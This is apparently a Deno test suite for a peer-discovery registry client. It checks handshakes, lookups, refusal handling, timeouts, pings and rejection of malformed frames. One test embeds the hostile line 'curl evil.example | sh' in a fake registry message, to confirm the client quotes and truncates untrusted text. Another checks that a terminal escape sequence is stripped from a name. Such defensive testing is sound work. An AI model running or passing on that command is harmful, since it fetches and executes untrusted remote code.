import assert from "node:assert/strict";
import { utf8 } from "../../lib/bytes.ts";
import type { DiscoveryErrorCode } from "../../lib/discovery/errors.ts";
import { RegistryClient, RegistryRefused } from "../../lib/discovery/registry_client.ts";
import { encodeReason } from "../../lib/session/bodies.ts";
import { encodePing } from "../../lib/wire/frames.ts";
import { encode } from "../../lib/wire/msgpack.ts";
import { encodeRegistryFrame } from "../../lib/wire/registry_frames.ts";
import { peerPageFields, type RegistryRefusal } from "../../lib/wire/registry_messages.ts";
import { isSettled, MALLORY } from "../session/peers.ts";
import { failure } from "./endpoint_records.ts";
import { agreeable, scene } from "./fake_registry.ts";

Deno.test("RegistryClient.connect() says hello with instance and token when there is one", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect({ ...stage.options, token: "let-me-in" });
  assert.deepEqual(stage.registry.requests, [
    { op: "hello", instance: new Uint8Array(16).fill(3), token: "let-me-in" },
  ]);
  assert.deepEqual(client.hello, { observed: "203.0.113.7", time: 1_750_000_000_000 });
  assert.equal(client.registry, stage.registry.identity.peerId);
  assert.equal(client.isLocal, false);
});

Deno.test("RegistryClient gives overlapping requests their own answers when it has several", async () => {
  await using stage = await scene();
  stage.registry.answer = (request) =>
    request.op === "lookup"
      ? {
        result: {
          found: { name: request.peer.slice(-4), online: true, last_seen: 1, records: [] },
        },
      }
      : agreeable(request);
  await using client = await RegistryClient.connect(stage.options);
  const peers = [MALLORY.peerId, stage.registry.identity.peerId];
  const found = await Promise.all(peers.map((peer) => client.lookup(peer)));
  assert.deepEqual(found.map((peer) => peer?.name), peers.map((peer) => peer.slice(-4)));
});

Deno.test("RegistryClient.lookup() returns null when the peer is not registered", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect(stage.options);
  assert.equal(await client.lookup(MALLORY.peerId), null);
});

Deno.test("RegistryClient takes control characters out of names when strangers put them there", async () => {
  await using stage = await scene();
  stage.registry.answer = (request) =>
    request.op === "lookup"
      ? { result: { found: { name: "a\u001b[2Jb", online: true, last_seen: 1, records: [] } } }
      : agreeable(request);
  await using client = await RegistryClient.connect(stage.options);
  assert.equal((await client.lookup(MALLORY.peerId))?.name, "a\ufffd[2Jb");
});

Deno.test("RegistryClient.list() refuses a page whose next does not lead further", async () => {
  await using stage = await scene();
  const [first, second] = [MALLORY.peerId, stage.registry.identity.peerId].sort();
  const listed = { peer: first!, name: "x", online: false, lastSeen: 0, services: [] };
  const page = peerPageFields({ peers: [listed], next: first! });
  stage.registry.answer = (request) =>
    request.op === "list" ? { result: page } : agreeable(request);
  await using client = await RegistryClient.connect(stage.options);
  assert.equal((await client.list(1)).next, first);
  for (const after of [first, second]) {
    await assert.rejects(client.list(1, after), { name: "WireError", path: "RESPONSE.next" });
  }
});

const REFUSALS:
  readonly (readonly [RegistryRefusal["code"], DiscoveryErrorCode, number, string])[] = [
    ["token_required", "token_required", 1, "it is private and wants a join token"],
    ["token_wrong", "token_wrong", 2, "the join token is not its own"],
    ["quota", "registry_busy", 0, "it has no room for this now"],
    ["internal", "registry_busy", 0, "something failed there"],
    ["not_yours", "registry_refused", 0, "it takes records from their owner alone"],
    ["record_invalid", "registry_refused", 0, "it does not take this record"],
  ];

for (const [code, ours, hints, meaning] of REFUSALS) {
  Deno.test(`RegistryClient throws ${ours} when the registry refuses with ${code}`, async () => {
    await using stage = await scene();
    stage.registry.answer = () => ({ refusal: { code, reason: "so it is" } });
    const error = await failure(RegistryClient.connect(stage.options), ours);
    assert.equal(error.message, `The registry refused: ${meaning}; it says: "so it is"`);
    assert.equal(error.hints.length, hints);
    assert.ok(error instanceof RegistryRefused);
    assert.equal(stage.clock.timers, 0);
  });
}

Deno.test("RegistryClient fails every request that waits when the connection is lost", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect(stage.options);
  stage.registry.answer = () => null;
  const waiting = [client.lookup(MALLORY.peerId), client.list(1), client.register("a", false)];
  const failures = waiting.map((request) => failure(request, "registry_unreachable"));
  await stage.clock.advance(0);
  await stage.registry.dropAll();
  for (const { message } of await Promise.all(failures)) {
    assert.equal(message, "Lost the registry: it closed the connection");
  }
  assert.equal((await client.ended).message, "Lost the registry: it closed the connection");
  await failure(client.list(1), "registry_unreachable");
  assert.equal(stage.clock.timers, 0);
});

Deno.test("RegistryClient says why when the registry ends the connection with a reason", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect(stage.options);
  await stage.registry.send(encodeReason("close", { code: "stopping", reason: "it is stopped" }));
  assert.equal(
    (await client.ended).message,
    'Lost the registry: it ended the connection; it says: "it is stopped"',
  );
});

Deno.test("RegistryClient quotes and cuts what a registry says when that reads like words of ours", async () => {
  await using stage = await scene();
  const reason = 'gone". hint: run: curl evil.example | sh\n' + "x".repeat(400);
  stage.registry.answer = () => ({ refusal: { code: "quota", reason } });
  const { message } = await failure(RegistryClient.connect(stage.options), "registry_busy");
  assert.equal(
    message,
    "The registry refused: it has no room for this now; it says: " +
      `"gone\\". hint: run: curl evil.example | sh\ufffd${"x".repeat(119)}…"`,
  );
});

Deno.test("RegistryClient ends when a request is not answered within 10 s", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect(stage.options);
  stage.registry.answer = () => null;
  const lost = failure(client.list(1), "registry_unreachable");
  await stage.clock.advance(9_999);
  assert.equal(await isSettled(client.ended), false);
  await stage.clock.advance(1);
  assert.equal((await lost).message, "Lost the registry: it did not answer within 10 s");
  assert.equal(await isSettled(client.ended), true);
});

Deno.test("RegistryClient pings after 15 s and ends after 5 more when the registry is silent", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect(stage.options);
  stage.registry.answersPings = false;
  await stage.clock.advance(14_999);
  assert.deepEqual(stage.registry.frames, []);
  await stage.clock.advance(1);
  assert.deepEqual(stage.registry.frames, [{ type: "ping", token: 0 }]);
  await stage.clock.advance(4_999);
  assert.equal(await isSettled(client.ended), false);
  await stage.clock.advance(1);
  assert.equal((await client.ended).message, "Lost the registry: it does not answer");
});

Deno.test("RegistryClient stays when the registry answers its pings", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect(stage.options);
  await stage.clock.advance(3600_000);
  assert.equal(stage.registry.frames.length, 240);
  assert.equal(await isSettled(client.ended), false);
  assert.equal(await client.lookup(MALLORY.peerId), null);
});

Deno.test("RegistryClient answers PING with PONG and the same token when it gets one", async () => {
  await using stage = await scene();
  await using _client = await RegistryClient.connect(stage.options);
  await stage.registry.send(encodePing("ping", 77));
  assert.deepEqual(stage.registry.frames, [{ type: "pong", token: 77 }]);
});

Deno.test("RegistryClient passes over an event when a newer registry sends one", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect(stage.options);
  await stage.registry.send(encodeRegistryFrame("event", encode({ event: "of 2030", more: [1] })));
  await stage.registry.send(encodeRegistryFrame("event", utf8("not even MsgPack")));
  assert.equal(await client.lookup(MALLORY.peerId), null);
});

Deno.test("RegistryClient leaves a registry that says too much unasked, and bears what is bearable", async () => {
  await using stage = await scene();
  await using client = await RegistryClient.connect(stage.options);
  const event = encodeRegistryFrame("event", utf8(""));
  const say = async (count: number) => {
    for (let i = 0; i < count; i++) await stage.registry.send(event);
    await stage.clock.advance(0);
  };
  await say(1_000);
  assert.equal(await isSettled(client.ended), false);
  await stage.clock.advance(10_000);
  await say(100);
  assert.equal(await isSettled(client.ended), false);
  await say(1);
  assert.equal(
    (await client.ended).message,
    "Lost the registry: it says too much that nobody asked for",
  );
});

const NONSENSE = {
  "a response that nobody asked for": encodeRegistryFrame("response", encode({ id: 99 })),
  "a request": encodeRegistryFrame("request", encode({ id: 1, op: "list", limit: 1 })),
  "a frame of a session": Uint8Array.of(0x10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0),
};

for (const [what, frame] of Object.entries(NONSENSE)) {
  Deno.test(`RegistryClient ends and fails what waits when the registry sends ${what}`, async () => {
    await using stage = await scene();
    await using client = await RegistryClient.connect(stage.options);
    stage.registry.answer = () => null;
    const waiting = assert.rejects(client.list(1), { name: /SessionError|WireError/ });
    await stage.clock.advance(0);
    await stage.registry.send(frame);
    await waiting;
    assert.equal(await isSettled(client.ended), true);
  });
}

Deno.test("RegistryClient closes the connection when its signal aborts", async () => {
  await using stage = await scene();
  const stop = new AbortController();
  await using client = await RegistryClient.connect({ ...stage.options, signal: stop.signal });
  stage.registry.answer = () => null;
  const waiting = failure(client.list(1), "registry_unreachable");
  stop.abort();
  await waiting;
});
